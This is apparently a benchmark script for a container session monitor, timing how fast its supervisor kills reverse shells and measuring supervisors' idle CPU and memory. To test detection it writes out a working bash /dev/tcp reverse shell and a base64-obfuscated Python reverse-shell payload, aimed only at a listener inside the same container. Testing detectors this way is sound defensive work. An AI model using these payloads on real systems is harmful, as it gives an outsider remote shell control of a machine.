"""The session monitor: how fast a reverse shell is killed, and what the supervisors cost.

- Detection latency: a `coi shell --background --tool dummy` session, a listener inside
  its container on the container's own eth0 address, then a reverse shell to it (nothing
  leaves the container). Timed from just before the exec that starts the shell (so the
  exec's own round trip is included) until no process is left in the container's cgroup
  (the monitor kills them from the host first) and until Incus reports the container
  Stopped or gone (killed). Two shells: `bash -i` on a /dev/tcp socket (a command-line
  rule can see it) and a base64-obfuscated python payload that dup2s a shell onto its
  socket (only the descriptor check can).
- Idle CPU: user+sys of each supervisor (forked by coi's fork server, else `python -m
  coi _supervise`; pid from ~/.coi/run/<container>.json) from /proc/<pid>/stat over a
  window, as a percent of one core; with 1 session and with 10 (per session). Children
  it reaped (cutime/cstime, e.g. an `nft` it ran) are reported too.
- Memory: with 10 sessions, the RSS sum (VmRSS) and PSS sum (smaps_rollup) of all
  supervisors. PSS shares the interpreter's pages fairly, RSS counts them ten times.

Targets (issue "Proactive defense"): latency median < 1 s; idle CPU < 1 % of a core per
session; all supervisors of 10 sessions < 150 MB resident. Runs as root, with its own
HOME, workspaces and container prefix (nothing of yours is touched). Table, then JSON.
Usage: .venv/bin/python bench/monitor.py [--runs 7] [--idle 30] [--image coi-test]
                                          [--poll SECONDS] [--json-out FILE]
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import shlex
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from sessions import COI, Bench, machine

from coi.monitor.cgroup import cgroup_pids, find_payload_dir

CLK_TCK = os.sysconf("SC_CLK_TCK")
PAGE = os.sysconf("SC_PAGE_SIZE")
LISTENER = ('$s=IO::Socket::INET->new(LocalAddr=>"{ip}",LocalPort=>{port},Listen=>1,'
            "ReuseAddr=>1) or die; $c=$s->accept; sleep 300")
PAYLOAD = ("import os, socket, subprocess\ns = socket.socket()\ns.connect(({ip!r}, {port}))\n"
           "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
           "subprocess.call(['/bin/sh', '-i'])\n")
QUIET = "</dev/null >/dev/null 2>&1 &"


def dev_tcp_shell(ip: str, port: int) -> list[str]:
    return ["bash", "-c", f"exec 3<>/dev/tcp/{ip}/{port}; exec bash -i <&3 >&3 2>&3"]


def python_shell(ip: str, port: int) -> list[str]:
    encoded = base64.b64encode(PAYLOAD.format(ip=ip, port=port).encode()).decode()
    return ["python3", "-c", f"import base64; exec(base64.b64decode('{encoded}'))"]


SHELLS = {"bash -i on /dev/tcp": dev_tcp_shell,
          "python, base64-obfuscated (descriptors only)": python_shell}


class Sessions:
    """Background dummy sessions, one workspace each, in a Bench's HOME and prefix."""

    def __init__(self, bench: Bench, client: Any, poll: float | None) -> None:
        self.bench, self.client = bench, client
        config = bench.home / ".config" / "coi" / "config.toml"
        text = f'[defaults]\nimage = "{bench.image}"\n[tool]\nname = "dummy"\n'
        if poll is not None:
            text += f"[monitoring]\npoll_interval_sec = {poll}\n"
        config.write_text(text)  # network: the default (restricted), as a user gets it
        self.started: list[str] = []

    def start(self) -> str:
        """A new session in a new workspace, supervised and at the tool's prompt."""
        from coi.session.runlock import is_supervised
        from coi.workspace import container_name

        workspace = self.bench.workspace.parent / f"ws-{uuid.uuid4().hex[:8]}"
        workspace.mkdir()
        os.chown(workspace, 1000, 1000)
        name = container_name(str(workspace), 1, self.bench.prefix)
        self.started.append(name)
        result = subprocess.run([COI, "shell", "--background"], env=self.bench.env,
                                cwd=workspace, text=True, capture_output=True,
                                stdin=subprocess.DEVNULL, check=False)
        if result.returncode != 0:
            raise RuntimeError(f"coi shell --background: {result.returncode}\n{result.stderr}")
        wait(lambda: is_supervised(self.coi_home, name), 30, f"a supervisor for {name}")
        log = self.coi_home / "logs" / f"supervisor-{name}.log"
        wait(lambda: log.exists() and f"monitoring {name} every" in log.read_text(), 30,
             f"the monitor of {name}")
        wait(lambda: "Tip: " in self.sh(name, f"tmux capture-pane -p -t =coi-{name}:"), 30,
             f"the dummy tool's prompt in {name}")
        return name

    @property
    def coi_home(self) -> Path:
        return self.bench.home / ".coi"

    def sh(self, name: str, script: str) -> str:
        from coi.incus import exec as incus_exec

        result = incus_exec.run(self.client, name, ["sh", "-c", script], user=1000, group=1000,
                                env={"HOME": "/home/code"}, cwd="/workspace", timeout=15)
        return result.stdout.decode(errors="replace")

    def status(self, name: str) -> str:
        from coi.errors import NotFound
        from coi.incus import instances

        try:
            return instances.get(self.client, name).status
        except NotFound:
            return "Gone"

    def address(self, name: str) -> str:
        from coi.incus import instances

        wait(lambda: instances.state(self.client, name).ipv4, 30, f"an address of {name}")
        return str(instances.state(self.client, name).ipv4[0])

    def supervisor(self, name: str) -> int:
        path = self.coi_home / "run" / f"{name}.json"
        return int(json.loads(path.read_text())["pid"])

    def fork_servers(self) -> list[int]:
        """The fork servers of this HOME (supervisors forked from one keep its command
        line, so the run states' pids are left out by the caller)."""
        marker = f"{self.coi_home}/run/forkserver-".encode()
        found = []
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    if marker in (entry / "cmdline").read_bytes():
                        found.append(int(entry.name))
                except OSError:
                    continue
        return found

    def closed(self, name: str) -> None:
        from coi.session.runlock import is_supervised

        wait(lambda: not is_supervised(self.coi_home, name), 60,
             f"the supervisor of {name} to finish")

    def remove_all(self) -> None:
        """Force-delete every container of the prefix (frozen ones too), wait for their
        supervisors, and release what a dead supervisor could not (rules, mounts)."""
        from coi.errors import IncusError
        from coi.incus import instances
        from coi.session.isolation import release

        names = [i.name for i in instances.list_instances(self.client, self.bench.prefix,
                                                          with_state=False)]
        for name in names:
            for attempt in range(3):
                try:
                    instances.delete(self.client, name, force=True, missing_ok=True)
                    break
                except IncusError as exc:
                    if attempt == 2:
                        print(f"could not delete {name}: {exc}", file=sys.stderr)
                    time.sleep(1)
        for name in names:
            try:
                self.closed(name)
            except RuntimeError as exc:
                print(exc, file=sys.stderr)
        # A supervisor whose container someone else deleted leaves the release to that
        # someone: release every session this bench started (a no-op for the others).
        for name in dict.fromkeys([*names, *self.started]):
            release(self.coi_home, name)


def wait(check: Any, timeout: float, what: str, interval: float = 0.05) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            raise RuntimeError(f"timed out waiting for {what}")
        time.sleep(interval)


# -- detection latency --------------------------------------------------------------------


def one_kill(sessions: Sessions, shell: Any, port: int = 4444) -> dict[str, Any]:
    """Seconds from the shell's start to Frozen and to Stopped/Gone, and the audit line."""
    name = sessions.start()
    ip = sessions.address(name)
    listener = shlex.join(["perl", "-MIO::Socket::INET", "-e",
                           LISTENER.format(ip=ip, port=port)])
    sessions.sh(name, f"setsid {listener} {QUIET}")
    wait(lambda: f"{ip}:{port}" in sessions.sh(name, "ss -ltn"), 10, "the listener")
    script = f"setsid {shlex.join(shell(ip, port))} {QUIET}"
    cgroup = find_payload_dir(name)
    started = time.monotonic()
    sessions.sh(name, script)
    frozen = emptied = None
    while True:
        status = sessions.status(name)
        now = time.monotonic() - started
        if status == "Frozen" and frozen is None:
            frozen = now
        if emptied is None and (cgroup is None or not cgroup_pids(cgroup)):
            emptied = now
        if status in ("Stopped", "Gone"):
            killed = now
            break
        if now > 30:
            raise RuntimeError(f"{name} was not killed within 30 s (status {status})")
        time.sleep(0.01)
    sessions.closed(name)
    audit = sessions.coi_home / "audit" / f"{name}.jsonl"
    events = [json.loads(line) for line in audit.read_text().splitlines()] \
        if audit.exists() else []
    hits = [e for e in events if e.get("detector") == "reverse_shell"]
    return {"frozen_s": frozen, "killed_s": killed, "no_process_s": emptied,
            "reason": hits[0]["evidence"].get("reason") if hits else None,
            "action": hits[0].get("action") if hits else None}


def bench_latency(sessions: Sessions, runs: int) -> list[dict[str, Any]]:
    rows = []
    for label, shell in SHELLS.items():
        runs_done = [one_kill(sessions, shell) for _ in range(runs)]
        killed = [r["killed_s"] for r in runs_done]
        frozen = [r["frozen_s"] for r in runs_done if r["frozen_s"] is not None]
        emptied = [r["no_process_s"] for r in runs_done if r["no_process_s"] is not None]
        rows.append({
            "benchmark": f"reverse shell to killed: {label}", "runs": len(killed),
            "median": statistics.median(killed), "p90": p90(killed), "max": max(killed),
            "unit": "s", "target": 1.0, "met": statistics.median(killed) < 1.0,
            "frozen_median_s": statistics.median(frozen) if frozen else None,
            "reasons": sorted({str(r["reason"]) for r in runs_done}),
            "actions": sorted({str(r["action"]) for r in runs_done}),
            "samples": [round(k, 3) for k in killed]})
        if emptied:
            rows.append({
                "benchmark": "  to no process left in its cgroup", "runs": len(emptied),
                "median": statistics.median(emptied), "p90": p90(emptied),
                "max": max(emptied), "unit": "s", "target": None, "met": None,
                "samples": [round(k, 3) for k in emptied]})
    return rows


def p90(values: list[float]) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(0.9 * (len(ordered) - 1)))]


# -- idle CPU and memory ------------------------------------------------------------------


def cpu_ticks(pid: int) -> tuple[int, int]:
    """(utime+stime, cutime+cstime) of a process, in clock ticks."""
    text = Path(f"/proc/{pid}/stat").read_text()
    fields = text[text.rindex(")") + 2:].split()  # fields from 3 (state) on
    return int(fields[11]) + int(fields[12]), int(fields[13]) + int(fields[14])


def memory(pid: int) -> tuple[int, int]:
    """(RSS, PSS) in bytes."""
    rss = pss = 0
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            rss = int(line.split()[1]) * 1024
    for line in Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines():
        if line.startswith("Pss:"):
            pss = int(line.split()[1]) * 1024
    return rss, pss


@contextmanager
def running(sessions: Sessions, count: int) -> Iterator[tuple[list[int], list[int]]]:
    """`count` sessions: their supervisors' pids and the fork server's."""
    names = [sessions.start() for _ in range(count)]
    try:
        pids = [sessions.supervisor(n) for n in names]
        yield pids, [p for p in sessions.fork_servers() if p not in pids]
    finally:
        sessions.remove_all()


def idle_cpu(pids: list[int], seconds: float) -> dict[str, Any]:
    load_before = os.getloadavg()[0]
    before = {p: cpu_ticks(p) for p in pids}
    started = time.monotonic()
    time.sleep(seconds)
    after = {p: cpu_ticks(p) for p in pids}
    elapsed = time.monotonic() - started
    own = [100 * (after[p][0] - before[p][0]) / CLK_TCK / elapsed for p in pids]
    children = [100 * (after[p][1] - before[p][1]) / CLK_TCK / elapsed for p in pids]
    return {"seconds": round(elapsed, 1), "own_pct": own, "children_pct": children,
            "load_1m": [round(load_before, 2), round(os.getloadavg()[0], 2)]}


def bench_idle(sessions: Sessions, seconds: float, settle: float) -> list[dict[str, Any]]:
    rows = []
    for count in (1, 10):
        with running(sessions, count) as (pids, servers):
            time.sleep(settle)  # start-up work (first scans, first save) out of the window
            cpu = idle_cpu(pids, seconds)
            per = statistics.mean(cpu["own_pct"])
            with_children = statistics.mean(
                [a + b for a, b in zip(cpu["own_pct"], cpu["children_pct"], strict=True)])
            rows.append({
                "benchmark": f"idle CPU per supervisor (mean), {count} session(s)", "runs": count,
                "median": per, "p90": None, "max": max(cpu["own_pct"]),
                "unit": "% of a core", "target": 1.0, "met": with_children < 1.0,
                "with_reaped_children_pct": round(with_children, 3),
                "window_s": cpu["seconds"], "load_1m_before_after": cpu["load_1m"]})
            if count == 10:
                mem = [memory(p) for p in pids]
                rss, pss = sum(m[0] for m in mem) / 2**20, sum(m[1] for m in mem) / 2**20
                rows.append({
                    "benchmark": "memory of all 10 supervisors: RSS sum", "runs": 10,
                    "median": rss, "p90": None, "max": max(m[0] for m in mem) / 2**20,
                    "unit": "MiB", "target": 150.0, "met": rss < 150.0})
                rows.append({
                    "benchmark": "memory of all 10 supervisors: PSS sum", "runs": 10,
                    "median": pss, "p90": None, "max": max(m[1] for m in mem) / 2**20,
                    "unit": "MiB", "target": 150.0, "met": pss < 150.0})
                shared = [memory(p) for p in servers]
                both = pss + sum(m[1] for m in shared) / 2**20
                rows.append({
                    "benchmark": "  PSS sum with the fork server", "runs": len(servers),
                    "median": both, "p90": None, "max": None, "unit": "MiB",
                    "target": 150.0, "met": both < 150.0,
                    "fork_server_rss_mib": [round(m[0] / 2**20, 1) for m in shared]})
    return rows


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--runs", type=int, default=7)
    parser.add_argument("--idle", type=float, default=30.0, help="CPU window, seconds")
    parser.add_argument("--settle", type=float, default=5.0)
    parser.add_argument("--image", default="coi-test")
    parser.add_argument("--poll", type=float, help="monitoring.poll_interval_sec "
                        "(default: coi's own default)")
    parser.add_argument("--skip-latency", action="store_true")
    parser.add_argument("--skip-idle", action="store_true")
    parser.add_argument("--json-out", type=Path)
    args = parser.parse_args()
    from coi.incus import connect

    load_before = round(os.getloadavg()[0], 2)
    results: list[dict[str, Any]] = []
    with tempfile.TemporaryDirectory(prefix="coi-bench-") as tmp, connect() as client:
        sessions = Sessions(Bench(args.image, Path(tmp)), client, args.poll)
        try:
            if not args.skip_latency:
                results += bench_latency(sessions, args.runs)
            if not args.skip_idle:
                results += bench_idle(sessions, args.idle, args.settle)
        finally:
            sessions.remove_all()
    host = machine() | {"load_average_1m_before": load_before, "poll": args.poll}
    print(table(results))
    doc = json.dumps({"benchmark": "monitor", "machine": host, "results": results}, indent=2)
    print(doc)
    if args.json_out:
        args.json_out.write_text(doc + "\n")
    return 0 if all(r["met"] in (None, True) for r in results) else 1


def table(results: list[dict[str, Any]]) -> str:
    def show(value: float | None) -> str:
        return "-" if value is None else f"{value:.3f}"

    lines = [f"{'benchmark':<62} {'med/sum':>8} {'p90':>8} {'max':>8} {'target':>7} "
             f"{'unit':<12} met"]
    lines += [f"{r['benchmark']:<62} {show(r['median']):>8} {show(r['p90']):>8} "
              f"{show(r['max']):>8} {show(r['target']):>7} {r['unit']:<12} "
              f"{ {None: '-', True: 'yes', False: 'NO'}[r['met']]}" for r in results]
    return "\n".join(lines)


if __name__ == "__main__":
    sys.exit(main())
